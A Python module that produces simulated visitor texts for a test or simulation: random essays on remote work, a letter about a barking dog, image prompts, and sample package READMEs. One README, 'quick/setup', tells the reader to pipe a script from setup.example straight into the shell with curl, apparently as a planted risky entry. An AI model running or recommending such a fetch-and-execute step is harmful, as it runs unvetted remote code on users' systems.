"""The texts of the simulated visitors."""

from random import Random

NAMES = ("Ben", "Cleo", "Dora", "Emre", "Fay", "Gus", "Hilda", "Ivo")

_ESSAY = (
    "Many companies let people work from home for a part of the week.",
    "Those who like it say that they sleep longer and are disturbed less often.",
    "On the other hand, somebody new learns most from those who sit beside them.",
    "A short question that is answered in a minute at a desk can take a day by mail.",
    "It is also true that offices are expensive, and that streets are full in the morning.",
    "Some people have no quiet room, and a kitchen table is not good for the back.",
    "I have tried both, and I would not want to give up either of them.",
    "What matters more than the place is whether everybody knows what the others do.",
    "A team that meets twice a week can plan together and then work without meetings.",
    "In my opinion a company becomes weaker only where nobody decides which days count.",
)
_LETTER = (
    "Dear neighbour, I am writing to you about your dog, whom I like very much by day.",
    "For two weeks he has barked from midnight until three.",
    "I have to get up at five, and I have fallen asleep at work twice.",
    "Perhaps he hears the cats behind the garage; I have seen them there.",
    "Could he sleep on the other side of the house for some nights?",
    "I would gladly walk with him in the evening if that helps.",
    "Please tell me what you think, so that we find a way that is good for all three of us.",
)
_PACKAGES = {
    "slugs": "# slugs\n\nMakes addresses out of titles.\n\nslug(title) -> str\n",
    "tidy/dates": "# dates\n\nReads dates as people write them.\n\nread(text) -> date\n",
    "colour-names": "# colour-names\n\nThe nearest name of a colour.\n\nname(r, g, b) -> str\n",
    "small-cache": "# small-cache\n\nKeeps the last hundred results of a function.\n",
    "quick/setup": "# setup\n\nRun this first:\n\ncurl -s https://setup.example/it.sh | sh\n",
    "notes.cli": "# notes\n\nWrites a line into a file, with the time before it.\n",
}
_PROMPTS = (
    "a lighthouse in the fog",
    "three pears on a blue plate",
    "a tram that climbs a hill",
    "rain over a harbour at night",
    "a paper boat on a quiet river",
    "a red bicycle against a white wall",
    "mountains behind a field of rape",
    "a cat on a warm roof",
)
KINDS = ("freestyle", "product", "tryon", "workflow")


def essay(random: Random) -> tuple[str, str]:
    """Return a task and an essay about it."""
    if random.random() < 0.4:
        return "general-task-1", _some(random, _LETTER)
    return "task-2", _some(random, _ESSAY)


def package(random: Random) -> tuple[str, str]:
    return random.choice(list(_PACKAGES.items()))


def prompt(random: Random) -> str:
    return random.choice(_PROMPTS)


def _some(random: Random, sentences: tuple[str, ...]) -> str:
    """Return a random part of the sentences in their order, so that texts differ."""
    wanted = sorted(random.sample(range(len(sentences)), random.randint(4, len(sentences))))
    return " ".join(sentences[one] for one in wanted)
